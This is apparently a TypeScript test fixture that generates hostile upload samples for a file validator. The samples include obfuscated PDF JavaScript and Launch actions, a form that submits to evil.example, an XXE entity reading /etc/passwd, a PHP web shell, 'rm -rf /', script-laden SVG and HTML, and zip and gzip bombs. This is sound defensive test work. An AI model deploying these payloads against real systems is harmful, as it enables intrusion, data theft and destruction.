import { randomBytes } from 'node:crypto'
import { deflateSync, gzipSync } from 'node:zlib'
import { eicar } from '../clamd.ts'
import { pdfWith } from './files.ts'
import { action, hidden, refused, script, text, zipOf, type Hostile } from './hostile.ts'
import { pictures } from './hostile-pictures.ts'

const stream = (dictionary: string, data: Buffer): string =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`

const packed = (object: string, dictionary = '/Filter /FlateDecode'): string =>
  stream(`/Type /ObjStm /N 1 /First 5 ${dictionary}`, deflateSync(text(`9 0  ${object}`)))

const pdfs = (): readonly Hostile[] =>
  [
    ['a script', action],
    ['a script by reference', '<< /Type /Action /JS 12 0 R >>'],
    ['a script as hex', '<< /JS <6170702e616c657274283129> >>'],
    ['a script spelled otherwise', '<< /S /J#61vaScript /#4a#53 (app.alert(1)) >>'],
    ['a script wholly spelled otherwise', '<< /#4A#61#76#61#53#63#72#69#70#74 (x) >>'],
    ['a program to launch', '<< /S /Launch /F (cmd.exe) >>'],
    ['a program to launch, spelled otherwise', '<< /S /L#61unch /F (cmd.exe) >>'],
    ['a file within', stream('/Type /EmbeddedFile', text(hidden))],
    ['files within', '<< /Names << /EmbeddedFiles << >> >> >>'],
    ['rich media', '<< /Subtype /RichMedia >>'],
    ['a form of its own language', '<< /XFA [(xdp:xdp) 9 0 R] >>'],
    ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['data from elsewhere', '<< /S /ImportData >>'],
    ['a way into a file within', '<< /S /GoToE >>'],
    ['a film', '<< /Subtype /Movie >>'],
    ['a rendition', '<< /S /Rendition >>'],
    ['a packed script', packed(action)],
    ['a packed script spelled otherwise', packed('<< /S /J#61vaScript >>')],
    ['a packed program to launch', packed('<< /S /Launch >>')],
    ['a script packed in another way', packed(action, '/Filter /LZWDecode')],
    ['a script packed twice', packed(action, '/Filter [/ASCIIHexDecode /FlateDecode]')],
    ['a script behind a predictor', packed(action, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')],
    ['a script packed by a way of another spelling', packed(action, '/F#69lter /FlateDecode')],
    [
      'a script behind a predictor that stands elsewhere',
      `${packed(action, '/Filter /FlateDecode /DecodeParms 7 0 R')}\nendobj\n7 0 obj\n<< /Pred#69ctor 12 >>`,
    ],
    ['a packed object under another spelling', packed(action).replace('/ObjStm', '/Obj#53tm')],
    [
      'a packed object that is none',
      packed(action).replace(/stream\n[^]*\nendstream/, 'stream\nnone\nendstream'),
    ],
    [
      'a bomb of packed objects',
      stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(150_000_000, 32))),
    ],
    ['a lock', '<< /Filter /Standard /V 2 >>\nendobj\ntrailer\n<< /Encrypt 6 0 R >>\n7 0 obj\n<< >>'],
  ].map(([name = '', extra = '']) => refused(`PDF with ${name}`, pdfWith('Harmless', extra)))

const cutPdfs = (): readonly Hostile[] => {
  const whole = pdfWith('Harmless')
  const zip = zipOf('evil.html', text(script))
  return [
    refused('PDF without an end', whole.subarray(0, whole.length - 20)),
    refused('PDF of a head only', '%PDF-1.7\n'),
    refused('PDF with a page behind it', Buffer.concat([whole, text(`<html>${script}</html>`)])),
    refused('PDF with a zip behind it', Buffer.concat([whole, zip])),
    refused('PDF with a zip as its comment', Buffer.concat([whole.subarray(0, -6), zip, text('\n%%EOF\n')])),
    refused(
      'PDF with markup at its beginning',
      text(whole.toString('latin1').replace('%\u00e2', `%${script}\n%\u00e2`)),
    ),
    refused('PDF behind a page', Buffer.concat([text(`<html>${script}</html>\n`), whole])),
    refused('PDF behind a picture', Buffer.concat([text('GIF89a'), whole])),
    refused('PDF of another age', text(whole.toString('latin1').replace('%PDF-1.4', '%PDF-9.9'))),
    refused('PDF without its table', text(whole.toString('latin1').replace('startxref', 'startnone'))),
    refused('PDF with a program behind it', Buffer.concat([whole, text('MZ'), randomBytes(500)])),
  ]
}

const otherMagic: readonly (readonly [string, string])[] = [
  ['a Windows program', '4d5a90000300000004000000ffff0000'],
  ['a Linux program', '7f454c4602010100'],
  ['a Mac program', 'cffaedfe07000001'],
  ['Java', 'cafebabe00000034'],
  ['WebAssembly', '0061736d01000000'],
  ['an old Office file', 'd0cf11e0a1b11ae1'],
  ['a rar', '526172211a0700'],
  ['a 7z', '377abcaf271c'],
  ['an xz', 'fd377a585a00'],
  ['a bzip2', '425a683931415926535900'],
  ['a film', '000000186674797069736f6d00000200'],
  ['an AVIF', '0000001c66747970617669660000000061766966'],
  ['a GIF', '47494638396101000100'],
  ['a BMP', '424d3a00000000000000'],
  ['a TIFF', '49492a0008000000'],
  ['a WebP', '524946461a000000574542505650384c'],
  ['an icon', '0000010001001010'],
  ['Flash', '4657530a00000000'],
  ['a shortcut', '4c0000000114020000000000'],
  ['a font', '0001000000120100'],
  ['a database', '53514c69746520666f726d6174203300'],
  ['a disk image', '434430303101'.padStart(80, '0')],
  ['a capture', 'd4c3b2a102000400'],
  ['a certificate store', '30820a3102010330'],
]

const texts: readonly (readonly [string, string])[] = [
  ['SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`],
  ['SVG behind its prologue', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
  ['SVG behind a mark', `\u00ef\u00bb\u00bf<svg>${script}</svg>`],
  ['SVG behind blanks', `\n\n   \t<svg>${script}</svg>`],
  ['SVG behind words', `Just a note\n<svg onload=alert(1)>`],
  ['SVG with an outer entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`],
  ['a page', `<!doctype html><html>${script}</html>`],
  ['a page behind words', `Dear nurse,\n${script}`],
  ['a page far behind words', `${'Dear nurse, '.repeat(200)}${script}`],
  ['a frame behind words', `Dear nurse <iframe src="https://evil.example">`],
  ['a link that acts', `[click](javascript:alert(1))`],
  ['a shell script', `#!/bin/sh\nrm -rf /`],
  ['a batch file', `@echo off\ndel *`],
  ['PHP behind words', `hello <?php system($_GET[0]); ?>`],
  ['PostScript', `%!PS-Adobe-3.0\n/x 1 def`],
  ['rich text with an object', `{\\rtf1{\\object\\objdata 0105}}`],
  ['XML', `<?xml version="1.0"?><a/>`],
  ['text with a zero', `all well\0${hidden}`],
  ['text with an escape', `all well \u001b]0;evil\u0007`],
  ['text of another alphabet', `all well \u00ff\u00fe`],
  ['one broken letter', `all well \u00c3`],
]

const scannable = (): readonly Hostile[] => [
  ...['', ' \n', '\nand more words'].map((end, turn): Hostile => ({
    name: `EICAR ${turn}`,
    bytes: text(eicar + end),
    end: 'harmful',
  })),
  ...[10, 1000, 70_000, 3_000_000].map((before): Hostile => ({
    name: `EICAR behind ${before} letters`,
    bytes: text('a'.repeat(before) + eicar),
    end: 'harmful',
  })),
  { name: 'EICAR in a PDF', bytes: pdfWith('Harmless', `<< >>\n%${eicar}`), end: 'harmful' },
  {
    name: 'EICAR in the data of a PDF',
    bytes: pdfWith('Harmless', stream('/Type /XObject', text(eicar))),
    end: 'harmful',
  },
]

const zips = (): readonly Hostile[] => {
  const bomb = deflateSync(Buffer.alloc(100_000_000))
  return [
    refused('a zip', zipOf('a.txt', text('a'))),
    refused('a zip bomb', zipOf('bomb', bomb)),
    refused('a document with macros', zipOf('word/vbaProject.bin', randomBytes(2000))),
    refused('a sheet with macros', zipOf('xl/vbaProject.bin', randomBytes(2000))),
    refused('an office file', zipOf('[Content_Types].xml', text('<Types/>'))),
    refused('an app', zipOf('AndroidManifest.xml', randomBytes(500))),
    refused('a jar', zipOf('META-INF/MANIFEST.MF', text('Main-Class: Evil'))),
    refused('a gzip bomb', gzipSync(Buffer.alloc(100_000_000))),
    refused('a packed SVG', gzipSync(text(`<svg>${script}</svg>`))),
    refused('text in 16 bits', Buffer.from('\ufeff<svg onload=alert(1)>', 'utf16le')),
    refused('nothing', Buffer.alloc(0)),
    refused('a zero', Buffer.alloc(1)),
    refused('a million zeros', Buffer.alloc(1_000_000)),
    refused('noise', randomBytes(1_000_000)),
    refused('one byte too much', Buffer.alloc(10 * 1024 * 1024 + 1, 'a')),
    refused('twenty million letters', Buffer.alloc(20_000_000, 'a')),
  ]
}

export const hostileFiles = async (): Promise<readonly Hostile[]> => [
  ...scannable(),
  ...pdfs(),
  ...cutPdfs(),
  ...zips(),
  ...otherMagic.map(([name, hex]) =>
    refused(name, Buffer.concat([Buffer.from(hex, 'hex'), randomBytes(2000)])),
  ),
  ...otherMagic.map(([name, hex]) => refused(`${name}, short`, Buffer.from(hex, 'hex'))),
  ...texts.map(([name, words]) => refused(name, words)),
  ...(await pictures()),
]
